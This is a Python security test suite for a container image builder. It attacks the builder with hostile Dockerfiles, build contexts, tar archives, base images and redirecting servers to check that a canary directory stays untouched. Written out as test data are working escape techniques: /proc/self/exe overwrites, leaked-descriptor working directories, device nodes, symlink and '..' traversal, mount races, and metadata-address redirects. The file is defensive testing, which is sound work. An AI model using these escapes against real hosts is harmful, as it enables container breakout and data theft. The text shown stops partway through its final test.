"""Hostile Dockerfiles, contexts, archives, images, servers and caches: nothing outside of a build is read or changed.

Each attack has a directory outside, the canary, whose content, modes, owners and times are compared before and after; its secret must
be in nothing that was said or built. Most are known from elsewhere: runc CVE-2019-5736, CVE-2024-21626; BuildKit CVE-2024-23651 to
-23653, CVE-2026-33747, CVE-2026-33748; buildah CVE-2024-1753, -9407, -9675, -11218; podman CVE-2026-55686; moby CVE-2024-24557.
"""

import contextlib
import http.server
import json
import os
import pathlib
import shutil
import socket
import stat
import subprocess
import sys
import tarfile
import threading
import time
import unittest

import harness
import images
from services import program

GOLDEN = pathlib.Path(__file__).resolve().parent.parent / "golden" / "dockerfile" / "build-cases"
ATTEMPTS = os.environ.get("COOPER_ESCAPE_ATTEMPTS", "")
BASE = "docker.io/cooper-test/base:latest"
SECRET = "canary-5f1d7c"
# The secret's line is no ignore pattern, so that one who reads it as such has something to complain about.
SECRET_LINE = "[" + SECRET + "\n"
REFUSED = (1, 2, 3, 4, 7, 8)  # 8: what cannot be reached
BOUND = 60  # seconds of one build


def describe(top):
    """All that an attack could change below a directory."""
    found = {}
    for path in [pathlib.Path(top), *sorted(pathlib.Path(top).rglob("*"))]:
        status = path.lstat()
        content = path.read_bytes() if stat.S_ISREG(status.st_mode) else os.readlink(path) if stat.S_ISLNK(status.st_mode) else None
        found[str(path)] = (status.st_mode, status.st_uid, status.st_gid, status.st_ino, status.st_nlink, status.st_mtime_ns, content,
                            os.listxattr(path, follow_symlinks=False))
    return found


def mounts_below(directory):
    with open("/proc/self/mountinfo", encoding="utf-8") as table:
        return [line for line in table if directory in line]


def is_running(mark):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if mark.encode() in pathlib.Path("/proc", pid, "cmdline").read_bytes():
                return True
    return False


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.append(self.path)
        location = self.server.redirects.get(self.path)
        body = self.server.files.get(self.path)
        self.send_response(302 if location else 404 if body is None else 200)
        if location:
            self.send_header("Location", location)
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")

    def log_message(self, *_):
        pass


class Server(http.server.ThreadingHTTPServer):
    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.asked, self.redirects, self.files = [], {}, {}
        self.address = "127.0.0.1:%d" % self.server_port
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def close(self):
        self.shutdown()
        self.server_close()


class Escapes(harness.TestCase):
    @classmethod
    def prepare(cls):
        if os.geteuid() != 0:
            raise unittest.SkipTest("attacks are worth most against root")
        cls.store = cls.workspace.directory("store")
        cls.cooper.environment["COOPER_STORE"] = cls.store
        cls.bases = cls.workspace.directory("bases")
        subprocess.run([sys.executable, "-B", str(GOLDEN / "make_base.py"), cls.bases, program("busybox")], check=True)
        cls.cooper("copy", "oci:%s/base" % cls.bases, "store:" + BASE)
        cls.modes = [mode for mode in ("root", "userns", "single-user", "chroot") if cls.mode_works(mode)]
        print("modes attacked: " + ", ".join(cls.modes), file=sys.stderr)

    @classmethod
    def mode_works(cls, mode):
        context = pathlib.Path(cls.workspace.directory("probe"))
        (context / "Dockerfile").write_text("FROM cooper-test/base\nRUN true\n")
        tried = cls.cooper("build", "--isolation", mode, "-o", "type=cacheonly", context, expect=None, timeout=BOUND)
        if tried.code != 0:
            print("mode %s does not work here: %s" % (mode, tried.err[-400:]), file=sys.stderr)
        return tried.code == 0

    def setUp(self):
        self.top = pathlib.Path(self.path())
        self.canary = self.top / "canary"
        (self.canary / "sub" / "empty").mkdir(parents=True)
        (self.canary / "secret").write_text(SECRET_LINE)
        (self.canary / "secret").chmod(0o640)
        (self.canary / "nothing").touch()
        (self.canary / "sub" / "file").write_text(SECRET_LINE)
        (self.canary / "program").write_text("#!/bin/sh\necho " + SECRET + "\n")
        (self.canary / "program").chmod(0o755)
        os.symlink("secret", self.canary / "link")
        os.utime(self.canary, (1_500_000_000, 1_500_000_000))
        self.before = describe(self.canary)
        self.mounts = mounts_below(self.workspace.path)

    def tearDown(self):
        self.assertEqual(describe(self.canary), self.before, "the canary was touched")
        self.assertEqual(mounts_below(self.workspace.path), self.mounts, "mounts are left")
        self.assert_no_temporary_files()

    def context(self, dockerfile, **files):
        root = self.top / "context"
        shutil.rmtree(root, ignore_errors=True)
        root.mkdir()
        (root / "Dockerfile").write_text(dockerfile)
        for name, content in files.items():
            (root / name).write_bytes(content if isinstance(content, bytes) else content.encode())
        return root

    def attack(self, context, *flags, mode="root", expect=None, **environment):
        """Builds to an archive without compression, so that each byte of it can be searched; None where it was refused."""
        archive = self.top / "built.tar"
        archive.unlink(missing_ok=True)
        done = self.cooper("build", "--isolation", mode, "--no-cache", "--compression", "none", "-o", "docker-archive:%s" % archive, *flags, context,
                           expect=None, timeout=BOUND, **environment)
        self.assertIn(done.code, (0, *REFUSED), str(done))
        if expect is not None:
            self.assertEqual(done.code == 0, expect, str(done))
        self.assertNotIn(SECRET, done.out + done.err)
        if done.code == 0:
            self.assertFalse(SECRET.encode() in archive.read_bytes(), "the secret is in the image: %s" % done)
        self.assertEqual(describe(self.canary), self.before, "the canary was touched: %s" % done)
        return done

    def modes_of(self, *wanted):
        return [mode for mode in wanted if mode in self.modes]

    # -- commands

    def test_commands_reach_nothing_of_the_machine(self):
        """Its files, store, environment, descriptors, processes, kernel and devices."""
        major, minor = self.some_disk()
        script = """
no() { what=$1; shift; if sh -c "$*" > /tmp/out 2>&1; then echo "ESCAPED: $what: $(head -c 200 /tmp/out)"; fi; }
for path in %(canary)s %(store)s %(cooper)s /var/run/docker.sock /run/docker.sock /etc/debian_version /usr/bin/gcc; do no file "test -e $path"; done
no home "ls -A /root | grep ."
no environment "env | grep -e CANARY -e COOPER"
no variables "cat /proc/*/environ | grep -e CANARY -e COOPER"
for fd in 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do no descriptor "exec <&$fd"; no descriptors "test -e /proc/self/fd/$fd/../../.. && ls /proc/self/fd/$fd/"; done
no init "ls /proc/1/root/ /proc/1/cwd/"
no init-program "head -c 1 /proc/1/exe"
no init-descriptors "ls -l /proc/1/fd | grep -e '->'"
no init-memory "head -c 1 /proc/1/mem"
no hostname "echo $(hostname) > /proc/sys/kernel/hostname"
no panic "echo $(cat /proc/sys/kernel/panic 2>/dev/null || echo 0) > /proc/sys/kernel/panic"
no sysrq "test -e /proc/sysrq-trigger && echo h > /proc/sysrq-trigger"
no core "head -c 1 /proc/kcore"
no keys "grep . /proc/keys"
no sys ": > /sys/kernel/mm/ksm/run"
no uevent ": > /sys/kernel/uevent_helper"
no cgroup "mkdir /sys/fs/cgroup/cooper-escape"
no cgroup-move "echo $$ > /sys/fs/cgroup/cgroup.procs"
no cgroup-mount "mkdir -p /tmp/cg; mount -t cgroup2 none /tmp/cg"
no mount "mkdir -p /tmp/m; mount -t tmpfs none /tmp/m"
no bind "mount -o bind / /tmp/m"
no remount "mount -o remount,rw,bind /proc/sys"
no uncover "umount /proc/sys || umount /proc/keys || umount -l /etc/hosts || umount -l /"
no proc "mkdir -p /tmp/p; mount -t proc none /tmp/p"
no nested-proc "busybox unshare -Urmpf mount -t proc none /tmp/p"
no nested-uncover "busybox unshare -Urm umount /proc/sys"
no pid1 "busybox nsenter -t 1 -m true"
no nodes "mknod /tmp/b b %(major)s %(minor)s; head -c 1 /tmp/b"
no memory "mknod /tmp/c c 1 1; head -c 1 /tmp/c"
no log "mknod /tmp/k c 1 11; dd if=/tmp/k bs=8192 count=1"
no module "busybox insmod /bin/busybox"
no swap "busybox mkswap /tmp/out && busybox swapon /tmp/out"
no chroot "mkdir -p /tmp/jail; busybox chroot /tmp/jail /bin/true || busybox chroot / test -e %(canary)s"
cd / && no parents "cd ../../../../../.. && test -e .%(canary)s"
exit 0
""" % {"canary": self.canary, "store": self.store, "cooper": self.cooper.path, "major": major, "minor": minor}
        context = self.context("FROM cooper-test/base\nCOPY script /script\nRUN sh /script\n", script=script)
        for mode in self.modes:
            with self.subTest(mode=mode):
                done = self.attack(context, mode=mode, expect=True, CANARY=SECRET, COOPER_CANARY=SECRET, LD_PRELOAD_CANARY=SECRET)
                found = [line for line in done.err.splitlines() if "ESCAPED" in line]
                self.assertEqual(found, [])

    def test_the_kernel_refuses_what_a_command_asks_for(self):
        """System calls that no busybox applet makes: by a program of our own."""
        if not ATTEMPTS:
            self.skipTest("COOPER_ESCAPE_ATTEMPTS names no program")
        has_key = subprocess.run([ATTEMPTS, "plant"], check=False).returncode == 0
        if has_key:
            self.addCleanup(subprocess.run, [ATTEMPTS, "remove"], check=True)
        context = self.context("FROM cooper-test/base\nCOPY --chmod=755 attempts /attempts\nRUN /attempts try %s\n" % self.canary,
                               attempts=pathlib.Path(ATTEMPTS).read_bytes())
        for mode in self.modes:
            with self.subTest(mode=mode):
                done = self.attack(context, mode=mode, expect=True)
                self.assertIn("all was tried", done.err)
                allowed = "a mount namespace" if mode in ("userns", "single-user") else "nothing"
                self.assertEqual([line for line in done.err.splitlines() if "ESCAPED" in line and allowed not in line], [])

    def test_working_directories_are_no_way_out(self):
        """CVE-2024-21626: a leaked descriptor of a directory as the working directory."""
        places = ["/proc/self/fd/%d" % number for number in range(3, 16)]
        places += ["/proc/self/cwd", "/proc/self/root", "/proc/1/root", "/proc/thread-self/fd/7", "/dev/fd/8", "/proc/self/fd/../fd/9"]
        lines = "\n".join("WORKDIR %s\nRUN cat ../../../../../../../..%s/secret ..%s/secret .%s/secret 2> /dev/null; true"
                          % (place, self.canary, self.canary, self.canary) for place in places)
        for mode in self.modes:
            with self.subTest(mode=mode):
                self.attack(self.context("FROM cooper-test/base\n" + lines + "\n"), mode=mode)
        for place in ("/proc/self/fd/7", "/proc/self/fd/8", "/proc/self/cwd", "/proc/1/root", "/dev/fd/8"):
            self.attack(self.context("FROM cooper-test/base\nWORKDIR %s\nRUN cat %s/secret\n" % (place, "../" * 9 + str(self.canary))), expect=False)

    def test_our_own_program_is_not_run_and_not_overwritten(self):
        """CVE-2019-5736, CVE-2019-14271: a program of the image that is /proc/self/exe."""
        before = harness.sha256_of(self.cooper.path)
        attacks = ["COPY --chmod=755 script /bin/evil\nRUN [\"/bin/evil\"]\n",
                   "RUN ln -sf /proc/self/exe /bin/evil\nRUN [\"/bin/evil\", \"version\"]\n",
                   "RUN ln -sf /proc/self/exe /bin/sh2 && cp -d /bin/sh2 /bin/sh\nRUN version\n",
                   "RUN (for n in 1 2 3 4 5 6 7 8 9; do for p in /proc/[0-9]*; do echo x >> $p/exe; echo x > $p/mem; done; done) 2>/dev/null; true\n"]
        for mode in self.modes:
            with self.subTest(mode=mode):
                for text in attacks:
                    self.attack(self.context("FROM cooper-test/base\n" + text, script="#!/proc/self/exe\n"), mode=mode)
                    self.assertEqual(harness.sha256_of(self.cooper.path), before)

    def test_processes_end_with_their_command(self):
        for mode in self.modes:
            with self.subTest(mode=mode):
                mark = "4%05d%d" % (os.getpid() % 100000, len(mode))
                self.attack(self.context("FROM cooper-test/base\nRUN (trap '' HUP TERM INT; setsid setsid sleep %s) & "
                                         "(setsid sh -c 'sleep %s & sleep %s' &) ; sleep 0.1\n" % (mark, mark, mark)), mode=mode, expect=True)
                until = time.monotonic() + 5
                while is_running(mark) and time.monotonic() < until:
                    time.sleep(0.02)
                self.assertFalse(is_running(mark))

    def test_more_rights_are_not_to_be_had(self):
        for text, said in (("RUN --security=insecure id\n", "insecure"), ("RUN --network=host --security=insecure id\n", "insecure"),
                           ("RUN --device=/dev/sda id\n", "device"), ("RUN --privileged id\n", "privileged")):
            done = self.attack(self.context("FROM cooper-test/base\n" + text), expect=False)
            self.assertIn(said, done.err)

    # -- mounts

    def test_mounts_lead_nowhere_else(self):
        """CVE-2024-1753, -9407, -9675, -23652: sources, targets, ids and seeds through links and '..'."""
        out = str(self.canary)
        up = "../" * 12 + out.lstrip("/")
        links = "FROM cooper-test/base AS links\nRUN ln -s %s /out; ln -s %s /up; ln -s / /all; ln -s /proc/self/root /proc-root\n" % (out, up)
        read = "cat /m/secret /m%s/secret 2>/dev/null; touch /m/planted /m%s/planted 2>/dev/null; ls -R /m 2>/dev/null | head -20; true" % (out, out)
        attempts = ["--mount=type=bind,%s,target=/m,rw" % source for source in
                    ("from=links,source=/out", "from=links,source=/up", "from=links,source=/all", "from=links,source=/proc-root" + out,
                     "from=links,source=" + up, "source=link", "source=" + up, "source=" + out, "from=links,source=/out/../.." + out)]
        attempts += ["--mount=type=cache,target=/m,%s" % options for options in
                     ("id=../../../../../.." + out, "id=" + out, "source=" + up, "source=/../../.." + out, "from=links,source=/out",
                      "from=links,source=/all", "id=%00", "id=.", "id=..")]
        attempts += ["--mount=type=%s,target=%s" % (kind, target) for kind in ("cache", "tmpfs", "bind,from=links")
                     for target in ("/out/m", "/up/sub/empty", "/all" + out + "/m", "../.." + out)]
        attempts += ["--mount=type=secret,id=one,target=%s" % target for target in ("/out/planted", "/up/nothing", "/all%s/sub/new" % out)]
        given = self.top / "given"
        given.write_text("given\n")
        for mode in self.modes_of("root", "chroot"):
            with self.subTest(mode=mode):
                for attempt in attempts if mode == "root" else attempts[::3]:
                    with self.subTest(attempt):
                        context = self.context(links + "FROM links\nRUN %s %s\n" % (attempt, read))
                        os.symlink(self.canary, context / "link")
                        self.attack(context, "--secret", "id=one,src=%s" % given, mode=mode)

    def test_mount_points_are_not_removed_through_links(self):
        """CVE-2024-23652: what was made to mount on is removed in the image alone, whatever its parents have become."""
        out = str(self.canary)
        text = ("FROM cooper-test/base\nRUN --mount=type=tmpfs,target=/a/sub/empty --mount=type=secret,id=one,target=/b/nothing "
                "mv /a /a2; mv /b /b2; ln -s %s /a; ln -s %s /b; rm -rf /etc/hosts /etc/resolv.conf; true\n"
                "RUN --mount=type=cache,target=/c/empty rm -rf /c; mv /c /c2; ln -s %s/sub /c; true\nWORKDIR /d/e\n"
                "RUN rm -r /d; ln -s %s /d; ln -s %s/nothing /etc/hosts 2>/dev/null; true\n" % (out, out, out, out, out))
        given = self.top / "given"
        given.write_text("given\n")
        for mode in self.modes:
            with self.subTest(mode=mode):
                self.attack(self.context(text), "--secret", "id=one,src=%s" % given, mode=mode)

    def test_a_race_in_a_cache_mount_is_lost(self):
        """CVE-2024-23651, CVE-2024-11218: one step turns a directory of a shared cache into a link and back while others mount it."""
        swap = ("mkdir -p /c/real; i=0; while [ $i -lt 400 ]; do ln -s %s /c/sub 2>/dev/null; rm -f /c/sub; mkdir /c/sub; rmdir /c/sub 2>/dev/null "
                "|| mv /c/sub /c/real/$i; i=$((i+1)); done" % self.canary)
        users = "".join("FROM cooper-test/base AS user%d\nRUN --mount=type=cache,id=race,target=/c mkdir -p /c/sub; true\n"
                        "RUN --mount=type=cache,id=race,source=sub,target=/m cat /m/secret; touch /m/planted; echo used > /used\n" % number
                        for number in range(4))
        text = ("FROM cooper-test/base AS swap\nRUN --mount=type=cache,id=race,target=/c %s; echo done > /done\n%sFROM scratch\n"
                "COPY --from=swap /done /\n" % (swap, users)) + "".join("COPY --from=user%d /used /used%d\n" % (n, n) for n in range(4))
        for mode in self.modes_of("root", "chroot"):
            with self.subTest(mode=mode):
                for _ in range(2):
                    self.attack(self.context(text), mode=mode)

    # -- copies

    def test_destinations_stay_in_the_image(self):
        """CVE-2026-55686, CVE-2018-15664: COPY, ADD and WORKDIR through links of the image."""
        out = str(self.canary)
        links = ("FROM cooper-test/base\nRUN ln -s %s /out; ln -s ../../../../../../../../..%s /up; ln -s %s/secret /file; ln -s /proc/self/root /proot; "
                 "ln -s %s/new /dangling; mkdir /d; ln -s %s /d/sub\n" % ((out,) * 5))
        tar = images.layer_tar([images.file("unpacked", "x"), images.file("sub/file", "overwritten")])
        steps = ["COPY payload /out/planted", "COPY payload /up/", "COPY payload /file", "ADD payload /dangling", "COPY payload /proot%s/" % out,
                 "COPY --link payload /out/linked", "COPY --parents payload /out/", "COPY --chmod=777 --chown=1:1 payload /up/secret",
                 "ADD archive.tar /out/", "ADD archive.tar /up", "COPY tree /out/", "COPY tree /d/", "COPY <<secret /out/\nheredoc\nsecret",
                 "WORKDIR /out/made", "WORKDIR /up/sub/empty/made", "WORKDIR ../../../../../../.." + out, "COPY payload ../../../../../.." + out + "/"]
        for mode in self.modes_of("root", "chroot"):
            with self.subTest(mode=mode):
                together = self.context(links + "\n".join(step for step in steps if step != "COPY tree /d/") + "\n", payload="payload", **{"archive.tar": tar})
                (together / "tree" / "sub" / "empty").mkdir(parents=True)
                (together / "tree" / "sub" / "file").write_text("overwritten")
                self.attack(together, mode=mode)
                for step in steps if mode == "root" else []:
                    with self.subTest(step):
                        (together / "Dockerfile").write_text(links + step + "\n")
                        self.attack(together, mode=mode)

    def test_sources_stay_in_the_context(self):
        out = str(self.canary)
        steps = ["COPY ../canary/secret /x", "COPY ../../../../../../..%s/secret /x" % out, "COPY %s/secret /x" % out, "COPY link/secret /x",
                 "COPY filelink /x", "COPY relative/secret /x", "ADD filelink /x", "COPY lin*/secret /x", "COPY *link /x", "COPY link /x",
                 "COPY --parents link/./secret /x/", "COPY --parents ./link/sub/file /x/", "COPY tree /x", "COPY . /x", "ADD file://%s/secret /x" % out,
                 "ADD %s/secret /x" % out, "COPY tree/deep/../../../canary/secret /x", "COPY process/self/root%s/secret /x" % out,
                 "RUN --mount=type=bind,target=/m cat /m/link/secret /m/filelink /m/relative/secret"]
        for step in steps:
            with self.subTest(step):
                context = self.context("FROM cooper-test/base\n" + step + "\n")
                (context / "tree" / "deep").mkdir(parents=True)
                for link in (context / "link", context / "tree" / "link", context / "tree" / "deep" / "link"):
                    os.symlink(self.canary, link)
                os.symlink(self.canary / "secret", context / "filelink")
                os.symlink("../canary", context / "relative")
                os.symlink("/proc", context / "process")
                self.attack(context)

    def test_fifos_sockets_and_devices_of_a_context_make_nobody_wait(self):
        for step in ("COPY pipe /x", "COPY . /x", "ADD pipe /x", "ADD node /x", "COPY node /x", "RUN --mount=type=bind,target=/m ls /m"):
            with self.subTest(step):
                context = self.context("FROM cooper-test/base\n" + step + "\n")
                os.mkfifo(context / "pipe")
                os.mknod(context / "node", stat.S_IFCHR | 0o666, os.makedev(1, 5))
                with socket.socket(socket.AF_UNIX) as listener:
                    listener.bind(str(context / "s"))
                    self.attack(context)

    def test_ignore_files_and_dockerfiles_that_lead_out(self):
        context = self.context("FROM scratch\nCOPY . /x\n")
        os.symlink(self.canary / "secret", context / ".dockerignore")
        self.attack(context)
        (context / ".dockerignore").unlink()
        os.symlink(self.canary / "secret", context / "Dockerfile.dockerignore")
        self.attack(context)
        (context / "Dockerfile.dockerignore").unlink()
        os.mkfifo(context / ".dockerignore")
        self.attack(context)
        (context / ".dockerignore").unlink()
        for hostile in ("!../canary/secret\n", "!/../canary\n!%s/**\n" % self.canary, "!" + "../" * 3000 + "x\n", "*/" * 2000 + "\n!" + "**/" * 2000 + "a\n"):
            (context / ".dockerignore").write_text(hostile)
            self.attack(context)
        (context / ".dockerignore").unlink()
        (context / "Dockerfile").unlink()
        os.symlink(self.canary / "secret", context / "Dockerfile")
        self.attack(context, expect=False)

    def test_a_context_that_changes_while_it_is_read(self):
        """CVE-2024-11218: an entry that is now a file, now a link out."""
        context = self.context("FROM scratch\nCOPY tree /x\nCOPY tree/entry /y\n")
        (context / "tree").mkdir()
        plain, link, entry = self.top / "plain", self.top / "link", context / "tree" / "entry"
        stop = threading.Event()

        def swap():
            while not stop.is_set():
                plain.write_text("harmless")
                os.replace(plain, entry)
                os.symlink(self.canary / "secret", link)
                os.replace(link, entry)

        swapper = threading.Thread(target=swap)
        swapper.start()
        try:
            for _ in range(12):
                self.attack(context)
        finally:
            stop.set()
            swapper.join()

    # -- archives

    def hostile_members(self):
        out = str(self.canary)
        up = "../" * 12 + out.lstrip("/")
        member, link, hard, folder = images.file, images.symlink, images.hard_link, images.directory
        yield "parents", [member(up + "/planted", "x"), member("../../planted", "x")]
        yield "absolute", [member(out + "/secret", "overwritten"), member("//" + out + "/planted", "x")]
        yield "link, then through it", [link("l", out), member("l/planted", "x"), member("l/secret", "overwritten")]
        yield "relative link", [link("l", up), member("l/planted", "x"), folder("l/sub", 0o777)]
        yield "chain", [link("a", "b"), link("b", "c"), link("c", up), member("a/planted", "x")]
        yield "link as file", [link("l", out + "/secret"), member("l", "overwritten")]
        yield "link as directory", [link("l", out), folder("l", 0o777), member("l/planted", "x")]
        yield "hard link out", [hard("h", out + "/secret"), member("h", "overwritten")]
        yield "hard link up", [hard("h", up + "/secret")]
        yield "hard link through a link", [link("l", out), hard("h", "l/secret")]
        yield "hard link to a link", [link("l", out + "/secret"), hard("h", "l"), member("h", "overwritten")]
        yield "root is a link", [link(".", out), member("planted", "x")]
        yield "root is a link, with slash", [link("./", out), member("./planted", "x")]
        yield "modes through a link", [link("l", out + "/secret"), images.entry("l", tarfile.DIRTYPE, 0o777) and folder("l/.", 0o777)]
        yield "dots within", [folder("d"), link("d/l", ".."), member("d/l/../../../../../.." + out + "/planted", "x")]
        yield "process file system", [link("l", "/proc/self/cwd"), member("l/planted", "x"), link("r", "/proc/self/root" + out), member("r/planted", "x")]
        yield "whiteout of a parent", [member("../.wh.canary", ""), member(".wh...", ""), member(".wh..", ""), member(".wh.", "")]
        yield "whiteouts through a link", [link("l", out), member("l/.wh.secret", ""), member("l/.wh..wh..opq", "")]
        yield "attributes", [images.file("f", "x", xattrs={"trusted.overlay.redirect": up, "trusted.overlay.metacopy": "y"}),
                             (images.entry("d", tarfile.DIRTYPE, 0o755, xattrs={"trusted.overlay.redirect": up, "trusted.overlay.opaque": "y",
                                                                                "user.overlay.redirect": out, "user.overlay.opaque": "x"}), b"")]

    def device_members(self):
        members = []
        for name, kind, major, minor in (("zero", tarfile.CHRTYPE, 1, 5), ("memory", tarfile.CHRTYPE, 1, 1), ("gone", tarfile.CHRTYPE, 0, 0),
                                         ("block", tarfile.BLKTYPE, *map(int, self.some_disk()))):
            info = images.entry(name, kind, 0o666)
            info.devmajor, info.devminor = major, minor
            members.append((info, b""))
        return members

    @staticmethod
    def some_disk():
        """The numbers of a block device of this machine."""
        disks = sorted(pathlib.Path("/sys/block").glob("*/dev"))
        return disks[0].read_text().strip().split(":") if disks else ("254", "0")

    def test_archives_stay_in_their_directory(self):
        for name, members in [*self.hostile_members(), ("devices", self.device_members())]:
            with self.subTest(name):
                context = self.context("FROM scratch\nADD a.tar /x/\n", **{"a.tar": images.layer_tar(members)})
                self.attack(context)
                self.attack(context / "a.tar")  # the same as a context

    def test_devices_of_archives_and_images_cannot_be_opened(self):
        tar = images.layer_tar(self.device_members())
        evil = self.hostile_base("devices", [self.device_members()])
        read = ("for node in zero memory block; do for place in /x /; do if head -c 1 $place/$node > /dev/null 2>&1; then echo ESCAPED $node; fi; done; done; "
                "ls -l /zero /x/zero; echo all was tried")
        for mode in self.modes:
            with self.subTest(mode=mode):
                for text in ("FROM cooper-test/base\nADD a.tar /x/\nRUN %s\n", "FROM evil\nCOPY --from=cooper-test/base / /\nRUN %s\n"):
                    done = self.attack(self.context(text % read, **{"a.tar": tar}), "--build-context", evil, mode=mode)
                    self.assertFalse([line for line in done.err.splitlines() if "ESCAPED" in line and "RUN" not in line], done.err)
                    if mode == "root":
                        self.assertIn("all was tried", done.err)

    # -- base images

    def hostile_base(self, name, layers, config=None):
        layout = images.Layout(str(self.top / name))
        made = [layout.layer(images.layer_tar(entries), images.PLAIN) for entries in layers]
        layout.image(made, tag="latest", config=config)
        return "evil=oci-layout://" + layout.path

    def test_base_images_stay_in_their_layers(self):
        busybox = images.file("bin/sh", pathlib.Path(program("busybox")).read_bytes(), 0o755)
        for mode in self.modes_of("root", "chroot"):
            with self.subTest(mode=mode):
                for number, (name, members) in enumerate(self.hostile_members()):
                    with self.subTest(name):
                        evil = self.hostile_base("evil%s%d" % (mode, number), [[busybox], members, [images.file("secret", "x"), images.file("l/late", "x")]])
                        text = "FROM evil\nRUN echo x > /l/planted; echo x > /d/planted; echo /d/* /l/*; true\nCOPY Dockerfile /l/\n"
                        self.attack(self.context(text), "--build-context", evil, mode=mode)

    def test_links_of_base_images_where_files_of_ours_go(self):
        out = str(self.canary)
        busybox = images.file("bin/sh", pathlib.Path(program("busybox")).read_bytes(), 0o755)
        up = "../" * 12 + out.lstrip("/")
        hostile = [[images.symlink(name, target)] for name in ("proc", "dev", "sys", "etc", "run", "tmp", "w", ".cooper-aside") for target in (out, up)]
        hostile += [[images.directory("etc"), images.symlink("etc/" + name, out + "/" + to)]
                    for name in ("resolv.conf", "hosts", "passwd", "group") for to in ("secret", "nothing", "new")]
        hostile += [[images.directory("dev"), images.symlink("dev/" + name, out + "/" + to)] for name in ("null", "pts", "shm", "pipes") for to in ("secret", "sub")]
        hostile += [[images.directory("run"), images.symlink("run/secrets", out)], [images.directory("proc"), images.symlink("proc/self", out)]]
        given = self.top / "given"
        given.write_text("given\n")
        text = ("FROM evil\nWORKDIR /w\nRUN --mount=type=secret,id=one echo > /dev/null; echo x > /etc/hosts; echo x > /etc/resolv.conf; "
                "echo x > /tmp/x; echo x > x; exit 0\nRUN <<EOF\n#!/bin/sh\necho x > /dev/shm/planted\nexit 0\nEOF\nUSER %s\nRUN [\"/bin/sh\", \"-c\", \"exit 0\"]\n" % SECRET[:6])
        for mode in self.modes_of("root", "chroot"):
            with self.subTest(mode=mode):
                for number, members in enumerate(hostile if mode == "root" else hostile[::2]):
                    with self.subTest(str(members[-1][0].name) + " -> " + members[-1][0].linkname):
                        evil = self.hostile_base("links%s%d" % (mode, number), [[busybox, *members]])
                        self.attack(self.context(text), "--secret", "id=one,src=%s" % given, "--build-context", evil, mode=mode)

    def test_triggers_of_base_images_get_no_more_than_a_dockerfile(self):
        out = str(self.canary)
        for trigger in ("ADD %s/secret /x" % out, "COPY ../canary/secret /x", "RUN --security=insecure id", "FROM scratch", "ONBUILD RUN id", "MAINTAINER x",
                        "RUN --mount=type=bind,source=../canary,target=/m cat /m/secret", "COPY link/secret /x", "WORKDIR " + "../" * 9 + out,
                        "RUN cat %s/secret" % out, "COPY --from=oci-layout://%s / /x" % out, "ADD file://%s/secret /x" % out, "", "RUN <<EOF", "\x00RUN id"):
            with self.subTest(trigger):
                evil = self.hostile_base("trigger%d" % (abs(hash(trigger)) % 10**9), [[images.file("f", "x")]], {"OnBuild": [trigger]})
                context = self.context("FROM evil\nRUN --network=none true\n")
                os.symlink(self.canary, context / "link")
                self.attack(context, "--build-context", evil)

    def test_images_are_named_and_not_places_of_the_machine(self):
        """What the command line may name, a Dockerfile may not: directories of the machine, and images of its store by `store:`."""
        layout = images.Layout(str(self.top / "private"))
        layout.image([layout.layer(images.layer_tar([images.file("private", "x")]), images.PLAIN)], tag="latest")
        for place in ("oci-layout://" + layout.path, "oci:" + layout.path, "store:" + BASE, "docker-archive:/x", "docker-daemon:x"):
            for text in ("FROM %s\n", "FROM scratch\nCOPY --from=%s / /\n", "ARG B=%s\nFROM $B\n", "FROM cooper-test/base\nRUN --mount=from=%s,target=/m ls /m\n"):
                with self.subTest(text % place):
                    self.attack(self.context(text % place), expect=False)

    # -- what is fetched

    def test_no_frontend_is_fetched(self):
        """CVE-2026-33747: `syntax` names code of others, which nobody runs."""
        server = Server()
        self.addCleanup(server.close)
        for line in ("# syntax=%s/evil/frontend:1\n", "#syntax = %s/evil/frontend@sha256:" + "0" * 64 + "\n", "// syntax=%s/evil\n", "#!/bin/sh\n# syntax=%s/e\n"):
            self.attack(self.context(line % server.address + "FROM scratch\nCOPY Dockerfile /\n"))
        self.assertEqual(server.asked, [])

    def test_a_public_server_cannot_send_us_into_a_private_network(self):
        """In a network of its own, where the public address is the loopback's."""
        serve = """
import http.server, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302 if self.path.startswith("/to/") else 200)
        if self.path.startswith("/to/"):
            self.send_header("Location", "http://" + self.path[4:])
        self.send_header("Content-Length", "14")
        self.end_headers()
        self.wfile.write(b"%s")
    def log_message(self, *_): pass
server = http.server.ThreadingHTTPServer(("0.0.0.0", 8080), Handler)
print("ready", flush=True)
server.serve_forever()
""" % (SECRET + "\n")[:14].replace("\n", "\\n")
        (self.top / "serve.py").write_text(serve)
        public, private = "93.184.216.34:8080", ["127.0.0.1:8080/x", "10.1.2.3:8080/x", "169.254.169.254:8080/latest/meta-data", "[::ffff:127.0.0.1]:8080/x",
                                                 "0.0.0.0:8080/x", "localhost:8080/x", "2130706433:8080/x", "0x7f.1:8080/x"]
        context = self.context("".join("FROM scratch AS s%d\nADD http://%s/to/%s /x\n" % (n, public, to) for n, to in enumerate(private)) +
                               "FROM scratch AS direct\nADD http://%s/x /x\nFROM scratch AS metadata\nADD http://169.254.169.254:8080/x /x\n" % public)
        script = ("ip link set lo up && for a in 93.184.216.34 10.1.2.3 169.254.169.254; do ip address add $a/32 dev lo || exit 99; done\n"
                  "mkfifo %(top)s/ready; %(python)s -B %(top)s/serve.py > %(top)s/ready & server=$!\nread line < %(top)s/ready\n"
                  "for target in %(targets)s; do %(cooper)s build --isolation root --no-cache -o type=local,dest=%(top)s/got-$target --target $target %(context)s "
                  "> %(top)s/said-$target 2>&1; echo $target $?; done\nkill $server\n" %
                  {"top": self.top, "python": sys.executable, "cooper": self.cooper.path, "context": context,
                   "targets": " ".join(["direct", "metadata"] + ["s%d" % n for n in range(len(private))])})
        done = subprocess.run(["unshare", "--net", "sh", "-c", script], capture_output=True, text=True, timeout=BOUND, check=False, env=self.cooper.environment)
        if done.returncode == 99 or "unshare" in done.stderr:
            self.skipTest("no network of its own: " + done.stderr)
        codes = dict(line.split() for line in done.stdout.splitlines())
        said = "".join((self.top / ("said-" + target)).read_text() for target in codes)
